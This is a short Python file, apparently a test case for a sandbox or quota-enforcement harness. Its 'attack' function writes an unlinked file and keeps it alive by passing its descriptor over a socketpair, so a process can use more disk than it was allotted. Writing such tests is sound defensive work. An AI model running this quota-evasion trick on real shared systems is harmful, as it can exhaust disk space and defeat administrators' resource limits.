"""Takes more of the disk than it was given with a removed file that is on its way in a socket."""

import array
import os
import socket

from child import hear
from child import say


def attack(mebibytes):
    with open("big", "wb", buffering=0) as file:
        os.unlink("big")
        for _ in range(mebibytes):
            file.write(bytes(1 << 20))
        here, there = socket.socketpair()
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file.fileno()]))
        here.sendmsg([b"x"], [rights])
    say("done")
    hear()
    return there.fileno() > 0
